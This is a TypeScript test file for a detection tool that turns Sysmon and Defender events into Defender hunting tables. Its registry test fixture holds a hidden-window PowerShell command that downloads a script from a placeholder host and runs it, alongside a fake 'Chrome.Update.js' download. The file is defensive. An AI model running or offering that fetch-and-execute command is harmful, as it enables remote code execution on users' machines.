import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { WindowsEvent } from '../../sources/windowsEvent.js';
import type { TableRow } from '../../sources/types.js';
import { normalizeWindowsEvent } from './windowsEvent.js';
import { routeDefenderRow } from './defenderTables.js';
import { tableSchemas } from '../tables.js';

const origin = { file: 'events.xml' };

function sysmon(eventId: number, data: Record<string, string>): WindowsEvent {
  return {
    provider: 'Microsoft-Windows-Sysmon', eventId, version: 2, channel: 'Microsoft-Windows-Sysmon/Operational',
    computer: 'WS-LAB-07.corp.example', timeCreated: Date.UTC(2026, 10, 30, 10, 0, 1), recordId: 51, data,
  };
}

const actor = {
  RuleName: '-', UtcTime: '2026-11-30 10:00:00.250', ProcessGuid: '{6b0e8f1c-0000-0000-0000-000000000001}',
  ProcessId: '4321', Image: 'C:\\Windows\\explorer.exe', User: 'CORP\\kestrel',
};

function table(result: TableRow | string): TableRow {
  assert.notEqual(typeof result, 'string', String(result));
  return result as TableRow;
}

test('Sysmon 13 value set becomes a DeviceRegistryEvents row with Defender hive names', () => {
  const { table: name, row } = table(normalizeWindowsEvent(sysmon(13, {
    ...actor, EventType: 'SetValue',
    TargetObject: 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a',
    Details: 'powershell -w h -c iwr https://example.test/x | iex\\1',
  }), origin));
  assert.equal(name, 'DeviceRegistryEvents');
  assert.equal(row.ActionType, 'RegistryValueSet');
  assert.equal(row.RegistryKey, 'HKEY_CURRENT_USER\\S-1-5-21-1004336348-1177238915-682003330-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU');
  assert.equal(row.RegistryValueName, 'a');
  assert.equal(row.RegistryValueType, 'String');
  assert.equal(row.RegistryValueData, 'powershell -w h -c iwr https://example.test/x | iex\\1');
  assert.equal(row.InitiatingProcessFileName, 'explorer.exe');
  assert.equal(row.InitiatingProcessId, 4321);
  assert.equal(row.InitiatingProcessAccountName, 'kestrel');
  assert.equal(row.Timestamp, Date.UTC(2026, 10, 30, 10, 0, 0, 250));
  assert.equal((row.AdditionalFields as Record<string, unknown>).LurewatchSource, 'sysmon-13');
});

test('Sysmon registry DWORD and QWORD details become decimal data', () => {
  const dword = table(normalizeWindowsEvent(sysmon(13, {
    ...actor, EventType: 'SetValue', TargetObject: 'HKLM\\SOFTWARE\\Policies\\x\\VBAWarnings', Details: 'DWORD (0x00000001)',
  }), origin)).row;
  assert.equal(dword.RegistryKey, 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\x');
  assert.equal(dword.RegistryValueType, 'Dword');
  assert.equal(dword.RegistryValueData, '1');
  const qword = table(normalizeWindowsEvent(sysmon(13, {
    ...actor, EventType: 'SetValue', TargetObject: 'HKLM\\SOFTWARE\\x\\Stamp', Details: 'QWORD (0x00000001-0x00000002)',
  }), origin)).row;
  assert.equal(qword.RegistryValueType, 'Qword');
  assert.equal(qword.RegistryValueData, String(2 ** 32 + 2));
});

test('Sysmon 12 key creation and 14 rename keep the whole key path', () => {
  const created = table(normalizeWindowsEvent(sysmon(12, { ...actor, EventType: 'CreateKey', TargetObject: 'HKCR\\ms-search' }), origin)).row;
  assert.equal(created.ActionType, 'RegistryKeyCreated');
  assert.equal(created.RegistryKey, 'HKEY_CLASSES_ROOT\\ms-search');
  assert.equal(created.RegistryValueName, '');
  const renamed = table(normalizeWindowsEvent(sysmon(14, {
    ...actor, EventType: 'RenameKey', TargetObject: 'HKLM\\SOFTWARE\\Old', NewName: 'HKLM\\SOFTWARE\\New',
  }), origin)).row;
  assert.equal(renamed.ActionType, 'RegistryKeyRenamed');
  assert.equal(renamed.PreviousRegistryKey, 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Old');
  assert.equal(renamed.RegistryKey, 'HKEY_LOCAL_MACHINE\\SOFTWARE\\New');
});

test('Sysmon 15 Zone.Identifier stream carries the mark of the web', () => {
  const { table: name, row } = table(normalizeWindowsEvent(sysmon(15, {
    ...actor, Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    TargetFilename: 'C:\\Users\\kestrel\\Downloads\\Chrome.Update.js:Zone.Identifier',
    CreationUtcTime: '2026-11-30 09:59:58.000', Hash: 'SHA256=AB12,IMPHASH=00000000000000000000000000000000',
    Contents: '[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://news.example.test/  HostUrl=https://cdn.example.test/update.js  ',
  }), origin));
  assert.equal(name, 'DeviceFileEvents');
  assert.equal(row.ActionType, 'FileCreated');
  assert.equal(row.FileName, 'Chrome.Update.js');
  assert.equal(row.FolderPath, 'C:\\Users\\kestrel\\Downloads\\Chrome.Update.js');
  assert.equal(row.FileOriginUrl, 'https://cdn.example.test/update.js');
  assert.equal(row.FileOriginReferrerUrl, 'https://news.example.test/');
  assert.equal(row.SHA256, 'AB12');
  const extra = row.AdditionalFields as Record<string, unknown>;
  assert.equal(extra.ZoneId, 3);
  assert.equal(extra.StreamName, 'Zone.Identifier');
  assert.equal(extra.CreationUtcTime, '2026-11-30 09:59:58.000');
});

test('Sysmon 11 file create has no origin', () => {
  const row = table(normalizeWindowsEvent(sysmon(11, { ...actor, TargetFilename: 'C:\\Users\\Public\\art.jse' }), origin)).row;
  assert.equal(row.FileName, 'art.jse');
  assert.equal(row.FileOriginUrl, undefined);
});

test('Sysmon 3 outbound and inbound connections pick the local end', () => {
  const data = {
    ...actor, Protocol: 'tcp', SourceIp: '10.0.0.7', SourceHostname: 'ws-lab-07', SourcePort: '50123',
    DestinationIp: '203.0.113.9', DestinationHostname: 'cdn.example.test', DestinationPort: '443',
  };
  const out = table(normalizeWindowsEvent(sysmon(3, { ...data, Initiated: 'true' }), origin));
  assert.equal(out.table, 'DeviceNetworkEvents');
  assert.equal(out.row.ActionType, 'ConnectionSuccess');
  assert.equal(out.row.RemoteIP, '203.0.113.9');
  assert.equal(out.row.RemotePort, 443);
  assert.equal(out.row.RemoteUrl, 'cdn.example.test');
  assert.equal(out.row.LocalIPType, 'Private');
  assert.equal(out.row.RemoteIPType, 'Public');
  assert.equal(out.row.Protocol, 'Tcp');
  const inbound = table(normalizeWindowsEvent(sysmon(3, { ...data, Initiated: 'false' }), origin)).row;
  assert.equal(inbound.ActionType, 'InboundConnectionAccepted');
  assert.equal(inbound.RemoteIP, '10.0.0.7');
  assert.equal(inbound.LocalPort, 443);
});

test('Defender rows go to their table by Type, stream table or ActionType', () => {
  const registry = table(routeDefenderRow({
    Timestamp: '2026-11-30T10:00:00Z', ActionType: 'RegistryValueSet', RegistryKey: 'HKEY_CURRENT_USER\\x', RegistryValueData: 'a',
    ReportId: '17', DeviceId: 'd1', AdditionalFields: '{"k":1}',
  }, { file: 'export.csv', line: 2 }));
  assert.equal(registry.table, 'DeviceRegistryEvents');
  assert.equal(registry.row.ReportId, 17);
  assert.equal(registry.row.Timestamp, Date.UTC(2026, 10, 30, 10));
  assert.equal((registry.row.AdditionalFields as Record<string, unknown>).LurewatchLine, 2);
  assert.deepEqual(Object.keys(registry.row), tableSchemas.get('DeviceRegistryEvents')!.map(([name]) => name));

  assert.equal(table(routeDefenderRow({ ActionType: 'FileCreated', FileName: 'a.js' }, origin)).table, 'DeviceFileEvents');
  const network = table(routeDefenderRow({ ActionType: 'ConnectionSuccess', RemotePort: '443' }, origin));
  assert.equal(network.table, 'DeviceNetworkEvents');
  assert.equal(network.row.RemotePort, 443);
  assert.equal(table(routeDefenderRow({ Type: 'DeviceFileEvents', ActionType: 'Whatever' }, origin)).table, 'DeviceFileEvents');
  assert.equal(table(routeDefenderRow({ ActionType: 'X' }, origin, 'DeviceNetworkEvents')).table, 'DeviceNetworkEvents');
  assert.equal(table(routeDefenderRow({ ActionType: 'ProcessCreated', FileName: 'cmd.exe' }, origin)).table, 'DeviceProcessEvents');
  assert.equal(routeDefenderRow({ ActionType: 'LogonSuccess' }, origin), 'Defender ActionType LogonSuccess (not DeviceProcessEvents)');
  assert.equal(typeof routeDefenderRow({ Type: 'DeviceLogonEvents' }, origin), 'string');
});
